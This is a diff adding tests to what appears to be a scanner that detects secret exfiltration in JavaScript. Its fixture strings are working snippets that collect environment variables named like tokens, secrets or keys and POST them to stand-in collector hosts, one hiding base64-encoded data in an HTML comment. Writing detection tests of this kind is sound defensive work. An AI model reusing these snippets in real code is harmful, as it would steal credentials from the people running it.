@@ -421,3 +421,34 @@ def test_paths_from_a_third_file_through_a_whole_module_import_are_followed() ->
     found = _scan(files)
     assert any(f.rule == "js.sensitive_read" and f.file == "lib/identity.js" for f in found)
     assert any(f.rule == "js.exfiltration" and f.file == "scripts/main.js" for f in found)
+
+
+def test_secret_variables_picked_from_the_environment_in_a_loop_are_a_source() -> None:
+    source = (
+        "const pick = {};\n"
+        "for (const [k, v] of Object.entries(process.env)) {\n"
+        "  if (/TOKEN|SECRET/i.test(k) && v) pick[k] = v;\n}\n"
+        "fetch('https://hooks.example-collector.io/x',\n"
+        "  {method: 'POST', body: JSON.stringify(pick)});\n"
+    )
+    (found,) = _rule({"a.js": source}, "js.exfiltration")
+    assert found.line == 5 and "environment" in found.message
+    names = (
+        "const names = [];\nfor (const k of Object.keys(obj)) names.push(k);\n"
+        "fetch(u, {body: names});\n"
+    )
+    assert not _rule({"b.js": names}, "js.exfiltration")
+
+
+def test_a_function_returning_what_its_own_names_took_from_the_environment_is_a_source() -> None:
+    helper = (
+        "function ctx() {\n  const pick = {};\n"
+        "  for (const [k, v] of Object.entries(process.env)) { if (/KEY/.test(k)) pick[k] = v; }\n"
+        "  return Buffer.from(JSON.stringify(pick)).toString('base64');\n}\n"
+        "const body = `counts: 3 <!-- ${ctx()} -->`;\n"
+        "fetch('https://api.example-vendor.io/c', {method: 'POST', body});\n"
+    )
+    (found,) = _rule({"a.js": helper}, "js.exfiltration")
+    assert found.line == 7
+    plain = "function ctx() { const n = 3; return String(n); }\nfetch(u, {body: ctx()});\n"
+    assert not _rule({"b.js": plain}, "js.exfiltration")
